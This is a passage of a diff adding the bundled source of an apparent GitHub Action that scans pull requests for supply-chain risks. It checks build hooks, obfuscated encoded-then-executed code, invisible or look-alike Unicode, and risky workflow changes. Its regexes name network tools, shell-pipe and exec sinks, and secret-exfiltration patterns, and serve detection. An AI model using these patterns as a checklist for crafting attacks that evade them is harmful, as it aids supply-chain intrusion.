+                rule: rules_RULES.BUILD_SETUP_PY,
+                line: at,
+                message: `setup.py gains ${what}.`,
+                evidence: lines_short(at.text),
+                severity: net || proc ? 'high' : 'medium',
+                properties: { network: Boolean(net), process: Boolean(proc) }
+            });
+        }
+    }
+    else if (name === 'meson.build' || name === 'meson_options.txt') {
+        const at = first(MESON);
+        const net = first(NETWORK);
+        if (at)
+            hits.push({
+                rule: rules_RULES.BUILD_NATIVE,
+                line: at,
+                message: 'Meson runs a command at configure or build time.',
+                evidence: lines_short(at.text),
+                severity: net ? 'high' : 'medium',
+                properties: { network: Boolean(net) }
+            });
+    }
+    else if (name === 'CMakeLists.txt' || /\.cmake$/.test(name)) {
+        const at = first(CMAKE);
+        const net = first(/file\s*\(\s*DOWNLOAD|https?:\/\//i);
+        if (at)
+            hits.push({
+                rule: rules_RULES.BUILD_NATIVE,
+                line: at,
+                message: 'CMake runs a command or downloads at configure time.',
+                evidence: lines_short(at.text),
+                severity: net ? 'high' : 'medium',
+                properties: { network: Boolean(net) }
+            });
+    }
+    else if (AUTOTOOLS_PATH.test(path)) {
+        const bad = first(AUTOTOOLS_BAD);
+        const at = bad ?? lines.find((l) => l.text.trim() && !/^\s*(dnl|#)/.test(l.text));
+        if (at) {
+            hits.push({
+                rule: rules_RULES.BUILD_AUTOTOOLS,
+                line: at,
+                message: bad
+                    ? 'Autotools/m4 code gains shell evaluation or byte-level text processing.'
+                    : 'Autotools/m4 build logic changed.',
+                evidence: lines_short(at.text),
+                severity: bad ? 'critical' : 'medium',
+                confidence: bad ? 'high' : 'medium'
+            });
+        }
+    }
+    else if (TEST_HOOK_PATH.test(path)) {
+        const at = first(NETWORK) ?? first(PROCESS) ?? first(/\b(exec|eval)\s*\(|b64decode/);
+        if (at)
+            hits.push({
+                rule: rules_RULES.BUILD_TEST_HOOK,
+                line: at,
+                message: `${name} gains process, network or exec calls.`,
+                evidence: lines_short(at.text),
+                properties: { network: NETWORK.test(at.text) }
+            });
+    }
+    else if (name === 'pyproject.toml') {
+        const at = first(/^\s*(build-backend|backend-path)\s*=/);
+        if (at) {
+            const inTree = /backend-path/.test(at.text) || Boolean(first(/^\s*backend-path\s*=/));
+            hits.push({
+                rule: rules_RULES.BUILD_BACKEND,
+                line: at,
+                message: inTree
+                    ? 'The build backend is loaded from code inside the repository (`backend-path`).'
+                    : 'The build backend changes.',
+                evidence: lines_short(at.text),
+                severity: inTree ? 'high' : 'medium'
+            });
+        }
+    }
+    else if (/^\.pre-commit-config\.ya?ml$/.test(name)) {
+        const at = first(/^\s*-?\s*repo:\s*local\b/);
+        if (at)
+            hits.push({
+                rule: rules_RULES.BUILD_PRECOMMIT_LOCAL,
+                line: at,
+                message: 'A local pre-commit hook runs a command from the repository.',
+                evidence: lines_short(at.text)
+            });
+    }
+    else if (/\.pth$/.test(name)) {
+        const at = first(/^\s*import\s/) ?? lines[0];
+        if (at)
+            hits.push({
+                rule: rules_RULES.BUILD_PTH,
+                line: at,
+                message: at.text.trim().startsWith('import')
+                    ? 'The .pth file runs code at interpreter start-up.'
+                    : 'A .pth file was added.',
+                evidence: lines_short(at.text),
+                severity: /^\s*import\s/.test(at.text) ? 'high' : 'low'
+            });
+    }
+    else if (/\.py$/.test(name) && (all === undefined || hasKeyword(all, 'process'))) {
+        const at = lines.find((l) => MODULE_LEVEL_START.test(l.text));
+        if (at) {
+            hits.push({
+                rule: rules_RULES.BUILD_IMPORT_PROCESS,
+                line: at,
+                message: 'A process or thread starts at module level, i.e. on import.',
+                evidence: lines_short(at.text),
+                severity: /DEVNULL|daemon\s*=\s*True|start_new_session/.test(at.text) || name === '__init__.py' ? 'high' : 'medium'
+            });
+        }
+    }
+    return hits;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/obfuscation.ts
+
+
+const B64_RUN = /[A-Za-z0-9+/]{160,}={0,2}|[A-Za-z0-9_-]{200,}={0,2}/;
+const HEX_RUN = /(?:[0-9a-fA-F]{2}){120,}|(?:\\x[0-9a-fA-F]{2}){40,}/;
+const DECODE = /\b(b64decode|b32decode|a85decode|b85decode|decodebytes|unhexlify|fromhex|atob|codecs\.decode|Buffer\.from\([^)]*['"](base64|hex)['"])/;
+const EXEC_SINK = /\b(exec|eval|compile|execfile|__import__|importlib\.import_module|subprocess\.\w+|os\.(system|popen|exec\w*|spawn\w*)|Popen|new Function|Function\(|child_process|execSync|spawnSync)\s*\(|\|\s*(ba|z)?sh\b|\bsh\s+-c\b|\$SHELL\b|\bpowershell\b/;
+const DECOMPRESS = /\b(marshal\.loads|zlib\.decompress|lzma\.decompress|bz2\.decompress|gzip\.decompress|pickle\.loads|zlib\.inflateSync|inflateSync|gunzipSync)\s*\(/;
+const CHR_CHAIN = /(?:chr\(\s*\d+\s*\)\s*\+\s*){5,}|String\.fromCharCode\(\s*(?:\d+\s*,\s*){7,}|(?:\\(?:u00|x)[0-9a-fA-F]{2}){12,}/;
+const PACKER = /__pyarmor__|pyarmor_runtime|eval\(function\(p,a,c,k,e,[dr]\)|(?:\b_0x[0-9a-f]{4,6}\b.*){6,}|\bjsfuck\b/;
+const BUNDLE_PATH = /(^|\/)(dist|build|out|lib)\/[^/]*\.(c|m)?js$|\.min\.js$|\.bundle\.js$/;
+const IMAGE_B64 = /^(iVBORw0KGgo|\/9j\/|R0lGOD|UklGR|PHN2Zy|Qk0)/;
+function encodedRun(t) {
+    const b = B64_RUN.exec(t);
+    if (b && !IMAGE_B64.test(b[0]) && /[0-9]/.test(b[0]) && /[a-z]/.test(b[0]) && /[A-Z]/.test(b[0]))
+        return b[0];
+    const h = HEX_RUN.exec(t);
+    return h?.[0];
+}
+function obfuscationHits(path, lines, all = lines.map((l) => l.text).join('\n')) {
+    const hits = [];
+    const has = {
+        decode: hasKeyword(all, 'decode'),
+        decompress: hasKeyword(all, 'decompress'),
+        chr: hasKeyword(all, 'chr'),
+        packer: hasKeyword(all, 'packer')
+    };
+    const notebook = /\.ipynb$/.test(path);
+    const dataFile = /\.(json|csv|tsv|svg|txt|lock|map)$/i.test(path) && !notebook;
+    const bundle = BUNDLE_PATH.test(path);
+    // File-level facts: an encoded blob and an exec sink in the same added code make a chain.
+    let sinkLine;
+    let decodeLine;
+    const encoded = [];
+    for (const l of lines) {
+        const t = l.text;
+        if (t.length < 8)
+            continue;
+        const run = t.length >= 160 ? encodedRun(t) : undefined;
+        if (run)
+            encoded.push({ line: l, run });
+        if (!dataFile) {
+            if (has.decode && !decodeLine && DECODE.test(t))
+                decodeLine = l;
+            if (has.decompress &&
+                DECOMPRESS.test(t) &&
+                (/\(\s*b?['"]/.test(t.slice(t.search(DECOMPRESS))) || DECODE.test(t) || run)) {
+                hits.push({
+                    rule: rules_RULES.OBF_DECOMPRESS,
+                    line: l,
+                    message: 'Inline data is decompressed or unmarshalled.',
+                    evidence: lines_short(t)
+                });
+            }
+            if (has.chr && CHR_CHAIN.test(t))
+                hits.push({
+                    rule: rules_RULES.OBF_CHR_CHAIN,
+                    line: l,
+                    message: 'A string is assembled from character codes.',
+                    evidence: lines_short(CHR_CHAIN.exec(t)[0])
+                });
+            if (has.packer && PACKER.test(t))
+                hits.push({ rule: rules_RULES.OBF_PACKER, line: l, message: 'Packer or obfuscator output.', evidence: lines_short(t) });
+        }
+    }
+    // Execution sinks matter only next to encoded or decoded data: looked for only then.
+    if (!dataFile && (encoded.length || decodeLine))
+        sinkLine = lines.find((l) => EXEC_SINK.test(l.text));
+    const chained = sinkLine && (encoded.length || decodeLine);
+    if (chained) {
+        const at = decodeLine ?? encoded[0].line;
+        hits.push({
+            rule: bundle ? rules_RULES.OBF_BUNDLE : rules_RULES.OBF_ENCODED_EXEC,
+            line: at,
+            message: `Encoded or decoded data (line ${at.line}) and code execution (line ${sinkLine.line}) are both added to this file.`,
+            evidence: lines_short(at.text),
+            severity: bundle || (encoded.length && decodeLine) ? 'critical' : 'high',
+            confidence: encoded.length && decodeLine ? 'high' : 'medium',
+            properties: { sinkLine: sinkLine.line, sink: lines_short(sinkLine.text, 120) }
+        });
+    }
+    for (const { line, run } of encoded) {
+        if (chained && line === (decodeLine ?? encoded[0].line))
+            continue;
+        if (bundle) {
+            hits.push({
+                rule: rules_RULES.OBF_BUNDLE,
+                line,
+                message: `A ${run.length}-character encoded literal is added to a bundled file.`,
+                evidence: lines_short(run, 80),
+                severity: 'high',
+                confidence: 'medium'
+            });
+        }
+        else {
+            hits.push({
+                rule: rules_RULES.OBF_LONG_LITERAL,
+                line,
+                message: `A ${run.length}-character encoded literal${notebook ? ' in a notebook' : ''}.`,
+                evidence: lines_short(run, 80),
+                confidence: notebook || dataFile ? 'low' : 'medium'
+            });
+        }
+    }
+    return hits;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/unicode.ts
+
+
+const BIDI = /[\u202a-\u202e\u2066-\u2069]/u;
+const BIDI_MARKS = /[\u200e\u200f\u061c]/u;
+const RTL_LETTERS = /[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufeff]/u;
+// Invisible or blank look-alikes; ZWJ/ZWNJ and variation selectors are judged by their neighbours below.
+const INVISIBLE = /[\u200b\u2060-\u2064\u00ad\u115f\u1160\u3164\uffa0\u2800\u180e\ufeff]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;
+const VS = /[\ufe00-\ufe0f]/u;
+const EMOJI_BASE = /[\p{Extended_Pictographic}\p{Emoji_Component}\u2000-\u2bff\u3030\u303d\u3297\u3299]/u;
+const CJK = /\p{Script=Han}/u;
+// Letters of Cyrillic and Greek that render like Latin ones.
+const CYR_CONFUSABLE = new Set([...'аеорсухіјѕԁԛԝһӏАВЕКМНОРСТХУІЈЅԜ']);
+const GRK_CONFUSABLE = new Set([...'οαινρτυχκΑΒΕΖΗΙΚΜΝΟΡΤΥΧ']);
+const WORD = /[\p{L}\p{M}\p{N}_]+/gu;
+function cp(c) {
+    return `U+${c.codePointAt(0).toString(16).toUpperCase().padStart(4, '0')}`;
+}
+function unicodeHits(path, lines, all) {
+    const hits = [];
+    if (all !== undefined && !/[^\x00-\x7f]/.test(all))
+        return hits;
+    const code = !isProse(path);
+    for (const l of lines) {
+        const t = l.text;
+        if (!/[^\x00-\x7f]/.test(t))
+            continue;
+        const bidi = BIDI.exec(t);
+        if (bidi) {
+            hits.push({
+                rule: rules_RULES.UNI_BIDI,
+                line: l,
+                message: `${cp(bidi[0])} reorders how this line is displayed.`,
+                evidence: lines_short(t)
+            });
+            continue;
+        }
+        if (code && BIDI_MARKS.test(t) && !RTL_LETTERS.test(t)) {
+            const c = BIDI_MARKS.exec(t)[0];
+            hits.push({
+                rule: rules_RULES.UNI_BIDI,
+                line: l,
+                message: `${cp(c)} (a direction mark) in a line with no right-to-left text.`,
+                evidence: lines_short(t),
+                severity: 'medium'
+            });
+            continue;
+        }
+        const inv = invisibleIn(t, code);
+        if (inv) {
+            hits.push({
+                rule: rules_RULES.UNI_INVISIBLE,
+                line: l,
+                message: `Invisible character ${cp(inv)} in an added line.`,
+                evidence: lines_short(t)
+            });
+            continue;
+        }
+        const glyph = homoglyphIn(t);
+        if (glyph)
+            hits.push({
+                rule: rules_RULES.UNI_HOMOGLYPH,
+                line: l,
+                message: glyph.message,
+                evidence: lines_short(t),
+                properties: { word: glyph.word }
+            });
+    }
+    return hits;
+}
+// Every character invisibleIn() may report; lines without one skip the per-character walk.
+const INVISIBLE_ANY = 
+// eslint-disable-next-line no-misleading-character-class
+/[\u200b-\u200d\u2060-\u2064\u00ad\u00a0\u115f\u1160\u3164\uffa0\u2800\u180e\ufeff\ufe00-\ufe0f]|[\u{e0000}-\u{e007f}]|[\u{e0100}-\u{e01ef}]/u;
+function invisibleIn(t, code) {
+    if (!INVISIBLE_ANY.test(t))
+        return undefined;
+    const chars = [...t];
+    for (let i = 0; i < chars.length; i++) {
+        const c = chars[i];
+        const prev = chars[i - 1] ?? '';
+        const next = chars[i + 1] ?? '';
+        if (c === '\ufeff' && i === 0)
+            continue; // a byte-order mark at the start of a file
+        if (INVISIBLE.test(c)) {
+            const n = c.codePointAt(0);
+            if (n >= 0xe0100 && CJK.test(prev))
+                continue; // ideographic variation sequences
+            if (n >= 0xe0000 && n <= 0xe007f && /[\u{1f3f4}\u{e0000}-\u{e007f}]/u.test(prev))
+                continue; // flag tag sequences
+            if (c === '\u00ad' && !code)
+                continue; // soft hyphens in prose
+            return c;
+        }
+        if (VS.test(c) && !EMOJI_BASE.test(prev))
+            return c;
+        if ((c === '\u200d' || c === '\u200c') &&
+            !(EMOJI_BASE.test(prev) && EMOJI_BASE.test(next)) &&
+            !/[\p{L}\p{M}]/u.test(prev))
+            return c;
+        if (c === '\u00a0' && code && !isProseLine(t))
+            return c;
+    }
+    return undefined;
+}
+/** Comments and strings in natural languages (French `«\u00a0»`) use NBSP; code tokens do not. */
+function isProseLine(t) {
+    return /^\s*(#|\/\/|\*|"""|''')/.test(t) && !/\u00a0(?=\S+\s*=)/.test(t) ? false : /[«»]|\u00a0[!?:;]/.test(t);
+}
+function homoglyphIn(t) {
+    if (!/[\p{Script=Cyrillic}\p{Script=Greek}]/u.test(t))
+        return undefined;
+    // A line of real Cyrillic or Greek text (not only look-alikes) is language, not a disguise.
+    let cyrOther = false;
+    for (const [c] of t.matchAll(/\p{Script=Cyrillic}/gu))
+        if (!CYR_CONFUSABLE.has(c))
+            cyrOther = true;
+    for (const m of t.matchAll(WORD)) {
+        const w = m[0];
+        if (!/[^\x00-\x7f]/.test(w))
+            continue;
+        let latin = 0;
+        let cyr = 0;
+        let cyrConf = 0;
+        let grk = 0;
+        let grkConf = 0;
+        for (const c of w) {
+            if (/\p{Script=Latin}/u.test(c))
+                latin++;
+            else if (/\p{Script=Cyrillic}/u.test(c)) {
+                cyr++;
+                if (CYR_CONFUSABLE.has(c))
+                    cyrConf++;
+            }
+            else if (/\p{Script=Greek}/u.test(c)) {
+                grk++;
+                if (GRK_CONFUSABLE.has(c))
+                    grkConf++;
+            }
+        }
+        if (latin && cyrConf)
+            return { message: `"${w}" mixes Latin with Cyrillic look-alike letters.`, word: w };
+        if (latin && grkConf && grk === grkConf)
+            return { message: `"${w}" mixes Latin with Greek look-alike letters.`, word: w };
+        if (!latin && cyr && cyr === cyrConf && !cyrOther)
+            return { message: `"${w}" is written in Cyrillic letters that look Latin.`, word: w };
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/text.ts
+
+
+
+
+/** Every line rule over one file's added lines. */
+function scanAddedText(file, all = file.added.map((l) => l.text).join('\n')) {
+    const lines = file.added;
+    if (!lines.length)
+        return [];
+    const hits = [
+        ...unicodeHits(file.path, lines, all),
+        ...obfuscationHits(file.path, lines, all),
+        ...buildHits(file.path, lines, all)
+    ];
+    return hits.map((h) => hitToFinding(file.path, h));
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/types.ts
+// What the scan reads from a checkout, and GitIO: the engine's only way to
+// read it. main.ts passes git.ts's implementation; tests may pass another.
+// A leaf: it imports nothing, so the engine and its rules depend on no
+// process-spawning code.
+/** The all-zero blob id git gives the missing side of an added or deleted file. */
+const isNullSha = (s) => /^0+$/.test(s);
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/workflows.ts
+// Workflow rules: only what the PR newly introduces (compared with the same
+// file at the base), because the job is to point at this change, not to
+// re-audit the repository (zizmor does that).
+
+
+
+
+const workflows_short = (s, n = 160) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
+/** Contexts an outside contributor controls (zizmor's "arbitrary" class, condensed). */
+const UNTRUSTED = /\bgithub\.(head_ref|event\.(issue\.(title|body)|pull_request\.(title|body|head\.(ref|label|repo\.(default_branch|name|description)))|comment\.body|review\.body|review_comment\.body|discussion\.(title|body)|pages\.[^}]*page_name|commits[^}]*\.(message|author)|head_commit\.(message|author)|workflow_run\.(head_branch|head_commit\.(message|author)|display_title|pull_requests)|client_payload|inputs\.[\w-]+))/;
+const PR_HEAD_REF = /github\.event\.(pull_request\.head\.(sha|ref)|workflow_run\.head_(sha|branch))|github\.head_ref|refs\/pull\/|pull\/\$\{\{|gh pr checkout/;
+const OUTSIDE_URL = /https?:\/\/(?!(?:[\w-]+\.)*(?:github\.com|githubusercontent\.com|pypi\.org|pythonhosted\.org|anaconda\.org|codecov\.io|readthedocs\.org|conda-forge\.org)\b)[\w.-]+/;
+const SEND = /\b(curl|wget|Invoke-WebRequest|nc|fetch|requests\.post|http\.request)\b/;
+const RUNNER_REG = /config\.(sh|cmd)\b[^\n]*--(url|token)|actions-runner-linux|\/actions\/runners\/registration-token|svc\.sh\s+install|run\.sh\s+&/;
+const PR_EVENTS = new Set([
+    'pull_request',
+    'pull_request_target',
+    'issue_comment',
+    'discussion',
+    'discussion_comment',
+    'pull_request_review',
+    'pull_request_review_comment',
+    'issues'
+]);
+/**
+ * Events that anyone can start, with input they control, while the job keeps
+ * the write scopes it is granted (unlike `pull_request` and the review events
+ * from forks, whose token GitHub makes read-only).
+ */
+const PRIVILEGED_UNTRUSTED = [
+    'pull_request_target',
+    'workflow_run',
+    'issue_comment',
+    'issues',
+    'discussion',
+    'discussion_comment'
+];
+/** Write scopes that reach code, releases, packages, signing identity or PRs: medium where they are not confined. */
+const SENSITIVE_SCOPES = new Set(['contents', 'actions', 'id-token', 'packages', 'pull-requests']);
+function workflows_triggers(y) {
+    const root = y.doc.contents;
+    const on = (0,dist/* isMap */.jh)(root) ? root.get('on', true) : undefined;
+    const out = new Set();
+    if ((0,dist/* isScalar */.jn)(on)) {
+        out.add(String(on.value));
+    }
+    else if ((0,dist/* isSeq */.oP)(on)) {
+        for (const i of on.items)
+            if ((0,dist/* isScalar */.jn)(i))
+                out.add(String(i.value));
+    }
+    else if ((0,dist/* isMap */.jh)(on)) {
+        for (const p of on.items)
+            out.add(String((0,dist/* isScalar */.jn)(p.key) ? p.key.value : p.key));
+    }
+    return out;
+}
+function parse(text, file) {
+    const y = (0,src/* parseYamlFile */.BU)(text, file);
+    return { y, on: workflows_triggers(y), text };
+}
+/** Every scalar under `node` with its key path, for scripts, `runs-on` and permissions. */
+function* workflows_scalars(node, path = []) {
+    if ((0,dist/* isMap */.jh)(node)) {
+        for (const p of node.items)
+            yield* workflows_scalars(p.value, [...path, String((0,dist/* isScalar */.jn)(p.key) ? p.key.value : p.key)]);
+    }
+    else if ((0,dist/* isSeq */.oP)(node)) {
+        let i = 0;
+        for (const n of node.items)
+            yield* workflows_scalars(n, [...path, String(i++)]);
+    }
+    else if ((0,dist/* isScalar */.jn)(node) && node.value !== null && node.value !== undefined) {
+        yield { path, node: node, value: String(node.value) };
+    }
+}
+const isWriteGrant = (s) => s.path.includes('permissions') && (s.value === 'write-all' || s.value === 'write');
+const grantKey = (s) => `${s.path.join('\0')}\0${s.value}`;
+/**
+ * How much a new write grant matters. `write-all`, and a sensitive scope at
+ * the workflow level (every job, present and future, gets it), are medium. A
+ * scope granted to one job is what the rule's own remediation asks for, so it
+ * is low, unless the workflow runs on an event that hands outside input to a
+ * privileged token: there the job's write token is the attacker's (medium).
+ */
+function writeGrant(owner, scope, value, untrusted, isNewGrant) {
+    const where = owner.length === 0
+        ? 'at the workflow level (every job gets it)'
+        : owner[0] === 'jobs' && owner.length === 2
+            ? `for job \`${owner[1]}\``
+            : `under \`${owner.join('.')}\``;
+    const on = untrusted.length ? `, on \`${untrusted.join('`, `')}\` (anyone can start it with input they control)` : '';
+    const what = value === 'write-all' ? '`permissions: write-all` (every write scope)' : `\`${scope}: write\` permission`;
+    const message = isNewGrant
+        ? `New ${what} ${where}${on}.`
+        : `Existing ${what} ${where} is now reachable through the new trigger${on}.`;
+    const medium = value === 'write-all' || (SENSITIVE_SCOPES.has(scope) && (owner.length === 0 || untrusted.length > 0));
+    return { message, severity: medium ? 'medium' : 'low' };
+}
+function scanWorkflow(file, baseText, headText) {
+    const parsed = parseBoth(parse, file, baseText, headText);
+    if ('error' in parsed)
+        return { findings: [], error: parsed.error };
+    const { head, base } = parsed;
+    const findings = [];
+    const isNew = (s) => !base || !base.text.includes(s);
+    const at = (node) => head.y.pos(node);
+    const add = (rule, node, message, evidence, extra = {}) => findings.push((0,src/* createFinding */.uP)(rule, {
+        message,
+        evidence: workflows_short(evidence),
+        location: { file, ...(node ? at(node) : { line: 1 }) },
+        key: evidence,
+        ...extra
+    }));
+    const all = [...workflows_scalars(head.y.doc.contents)];
+    const scripts = all.filter((s) => s.path.at(-1) === 'run' || (s.path.at(-1) === 'script' && s.path.at(-2) === 'with'));
+    const privileged = ['pull_request_target', 'workflow_run'].filter((t) => head.on.has(t));
+    const prReachable = [...head.on].some((t) => PR_EVENTS.has(t));
+    const untrusted = PRIVILEGED_UNTRUSTED.filter((t) => head.on.has(t));
+    // Write grants compared by place, not by text: moving `contents: write` from a job to the workflow level is new.
+    const baseGrants = new Set(base ? [...workflows_scalars(base.y.doc.contents)].filter(isWriteGrant).map(grantKey) : []);
+    // A grant the base already had is reported again when the PR adds an event that exposes it.
+    const newlyUntrusted = untrusted.some((t) => !base?.on.has(t));
+    // pull_request_target / workflow_run that checks out or runs the PR head.
+    if (privileged.length) {
+        const usesHead = all.find((s) => PR_HEAD_REF.test(s.value) &&
+            (s.path.at(-1) === 'ref' || s.path.at(-1) === 'run' || s.path.at(-1) === 'repository'));
+        const newTrigger = privileged.some((t) => !base?.on.has(t));
+        if (usesHead && (newTrigger || isNew(usesHead.value))) {
+            add(rules_RULES.WF_DANGEROUS_TRIGGER, usesHead.node, `\`${privileged.join('`, `')}\` workflow checks out or runs code from the PR head.`, usesHead.value);
+        }
+        else if (newTrigger) {
+            add(rules_RULES.WF_DANGEROUS_TRIGGER, undefined, `New \`${privileged.join('`, `')}\` trigger: the workflow runs with secrets and a write token on PRs from forks.`, privileged.join(' '), {
+                severity: 'medium',
+                confidence: 'low'
+            });
+        }
+    }
+    for (const s of scripts) {
+        for (const m of s.value.matchAll(/\$\{\{([^}]*)\}\}/g)) {
+            if (UNTRUSTED.test(m[1]) && isNew(m[0])) {
+                add(rules_RULES.WF_TEMPLATE_INJECTION, s.node, `\`${m[0]}\` is expanded into a ${s.path.at(-1) === 'run' ? 'shell script' : 'github-script'}.`, m[0]);
+            }
+        }
+        if (RUNNER_REG.test(s.value) && isNew(RUNNER_REG.exec(s.value)[0]))
+            add(rules_RULES.WF_RUNNER_REGISTRATION, s.node, 'A step registers a self-hosted runner.', RUNNER_REG.exec(s.value)[0]);
+    }
+    // Secrets and an outside URL in the same job.
+    const root = head.y.doc.contents;
+    const jobs = (0,dist/* isMap */.jh)(root) ? root.get('jobs', true) : undefined;
+    if ((0,dist/* isMap */.jh)(jobs)) {
+        for (const job of jobs.items) {
+            const js = [...workflows_scalars(job.value)];
+            const secret = js.find((s) => /\$\{\{[^}]*\bsecrets\.(?!GITHUB_TOKEN\b)\w+/.test(s.value) || /toJSON\(\s*secrets\s*\)/.test(s.value));
+            const url = js.find((s) => (s.path.at(-1) === 'run' || s.path.at(-2) === 'with') &&
+                OUTSIDE_URL.test(s.value) &&
+                (s.path.at(-1) !== 'run' || SEND.test(s.value)));
+            if (secret && url && isNew(OUTSIDE_URL.exec(url.value)[0])) {
+                add(rules_RULES.WF_SECRETS_EXFIL, url.node, `Job \`${String((0,dist/* isScalar */.jn)(job.key) ? job.key.value : job.key)}\` uses secrets and sends data to ${OUTSIDE_URL.exec(url.value)[0]}.`, OUTSIDE_URL.exec(url.value)[0] + ' ' + secret.value);
+            }
+            const runsOn = js.filter((s) => s.path[0] === 'runs-on');
+            const kind = (0,src/* classifyRunsOn */.c7)(runsOn.map((s) => s.value));
+            const selfHosted = kind === 'self-hosted'
+                ? runsOn.find((s) => s.value.trim().toLowerCase() === 'self-hosted')
+                : kind === 'custom'
+                    ? runsOn[0]
+                    : undefined;
+            if (selfHosted &&
+                prReachable &&
+                (isNew(selfHosted.value) || [...head.on].some((t) => PR_EVENTS.has(t) && !base?.on.has(t)))) {
+                add(rules_RULES.WF_SELF_HOSTED, selfHosted.node, `Job runs on \`${selfHosted.value}\` and the workflow runs on ${[...head.on].filter((t) => PR_EVENTS.has(t)).join(', ')}.`, selfHosted.value);
+            }
+        }
+    }
+    for (const s of all) {
+        if (/toJSON\(\s*secrets\s*\)/.test(s.value) && isNew('toJSON(secrets)') && isNew(s.value))
+            add(rules_RULES.WF_TOJSON_SECRETS, s.node, '`toJSON(secrets)` serialises every secret.', s.value);
+        if (s.path.at(-1) === 'secrets' && s.value === 'inherit' && isNew('secrets: inherit'))
+            add(rules_RULES.WF_TOJSON_SECRETS, s.node, '`secrets: inherit` passes every secret to the called workflow.', 'secrets: inherit', { severity: 'medium' });
+        const permIdx = s.path.lastIndexOf('permissions');
+        if (permIdx >= 0) {
+            const scope = s.path.slice(permIdx + 1).join('.');
+            const written = scope ? `${scope}: ${s.value}` : `permissions: ${s.value}`;
+            const isNewGrant = !baseGrants.has(grantKey(s));
+            if (isWriteGrant(s) && (isNewGrant || newlyUntrusted)) {
+                const { message, severity } = writeGrant(s.path.slice(0, permIdx), scope, s.value, untrusted, isNewGrant);
+                add(rules_RULES.WF_PERMISSIONS, s.node, message, written, { severity });
+            }
+        }
+    }
+    for (const t of ['issue_comment', 'discussion', 'discussion_comment']) {
+        if (head.on.has(t) && !base?.on.has(t) && scripts.length)
+            add(rules_RULES.WF_UNTRUSTED_TRIGGER, undefined, `New \`${t}\` trigger on a workflow with scripts.`, `on: ${t}`);
+    }
+    const baseUses = new Set(base ? (0,src/* findUses */.O5)(base.y).map((u) => u.raw) : []);
+    for (const u of (0,src/* findUses */.O5)(head.y)) {
+        if (u.kind === 'local' || baseUses.has(u.raw))
+            continue;
+        const pinned = u.kind === 'docker' ? Boolean(u.ref) : Boolean(u.ref && src/* FULL_SHA */.RG.test(u.ref));
+        if (!pinned) {
+            findings.push((0,src/* createFinding */.uP)(rules_RULES.WF_UNPINNED, {
+                message: `\`${u.raw}\` is not pinned to a commit SHA.`,
+                evidence: u.raw,
+                location: { file, line: u.line, column: u.column }
+            }));
+        }
+    }
+    return { findings };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/engine.ts
+// The PR scan: diff base...head (streamed, through the injected GitIO), run
+// every rule family on what the PR adds, then the metadata and API checks.
+// Pure over its inputs: git and the API client are injected; suppressions
+// are returned for the shared runner to apply, and the risk score is derived
+// from what stands after them (main.ts, summarise).
+
+
+
+
+
+
+
+
+
+
+const isWorkflowRule = (id) => rules_REGISTRY.get(id)?.group === 'workflow';
+const WORKFLOW = /^\.github\/workflows\/[^/]+\.ya?ml$|(^|\/)action\.ya?ml$/;
+const AUTORUN = /(^|\/)\.vscode\/tasks\.json$|(^|\/)\.devcontainer(\/[^/]+)?\/devcontainer\.json$|(^|\/)\.devcontainer\.json$|(^|\/)\.(claude|gemini|cursor|codex)\/[^/]*\.json$|(^|\/)\.mcp\.json$/;
+/** Files bigger than this are not read whole for the YAML/JSON/manifest rules. */
+const MAX_WHOLE_FILE = 2 * 1024 * 1024;
+/** The diff checks that do not run when the diff cannot be read. */
+const DIFF_CHECKS = ['workflow', 'build', 'binary', 'obfuscation', 'unicode', 'deps', 'secrets'];
+async function scanPr(opts) {
+    const { git } = opts;
+    const findings = [];
+    const notChecked = [];
+    const errors = [];
+    const notes = [];
+    const stats = {};
+    // The ignores the PR adds come first: on a line both cover, theirs is the one reported.
+    const added = [];
+    const workflowSuppressions = [];
+    let files = [];
+    let commits = [];
+    let textLines = 0;
+    try {
+        const head = await git.resolveCommit(opts.head, 'head');
+        const base = await git.resolveCommit(opts.base, 'base');
+        const from = await git.mergeBase(base, head);
+        // The file list, the commits and the patch stream run at once; the patch is analysed one file at a time.
+        const secrets = new SecretCollector();
+        const inline = new Map();
+        let truncatedFiles = 0;
+        const onText = (f) => {
+            textLines += f.added.length;
+            if (f.addedTruncated)
+                truncatedFiles++;
+            const all = f.added.map((l) => l.text).join('\n');
+            const ignores = all.includes('pr-anomaly-scan:') ? inlineIgnores(f.added) : [];
+            if (ignores.length)
+                inline.set(f.path, ignores);
+            findings.push(...scanAddedText(f, all));
+            secrets.add(f.path, f.added, all);
+        };
+        [files, commits] = await Promise.all([
+            git.listChanges(from, head),
+            git.listCommits(from, head),
+            git.streamAddedLines(from, head, onText)
+        ]);
+        stats['files changed'] = files.length;
+        stats.commits = commits.length;
+        stats['added lines'] = textLines;
+        if (truncatedFiles)
+            notes.push(`${truncatedFiles} file(s) added more than 8 MiB of text; only the first 8 MiB of each was scanned for content rules.`);
+        // 2. Whole files for the structured rules (workflows, manifests, IDE files), base and head.
+        const whole = files.filter((f) => f.status !== 'deleted' &&
+            !f.binary &&
+            (WORKFLOW.test(f.path) || isDependencyFile(f.path) || AUTORUN.test(f.path)));
+        const texts = await git.readTexts(whole.flatMap((f) => [f.oldSha, f.newSha]), MAX_WHOLE_FILE);
+        for (const f of whole) {
+            const headText = texts.get(f.newSha);
+            if (headText === undefined) {
+                notes.push(`${f.path}: larger than ${MAX_WHOLE_FILE / 1024 / 1024} MiB, structured checks skipped.`);
+                continue;
+            }
+            const baseText = isNullSha(f.oldSha) ? undefined : texts.get(f.oldSha);
+            if (WORKFLOW.test(f.path)) {
+                const r = scanWorkflow(f.path, baseText, headText);
+                if (r.error)
+                    errors.push(r.error);
+                findings.push(...r.findings);
+                // Ignores anywhere in a workflow cover its workflow findings, not only ignores the PR adds.
+                const ig = inlineIgnores(headText.split('\n').map((text, i) => ({ line: i + 1, text })));
+                workflowSuppressions.push(...inlineSuppressions(f.path, ig, isWorkflowRule));
+            }
+            else if (isDependencyFile(f.path)) {
+                const r = scanDependencies(f.path, baseText, headText);
+                if (r.error)
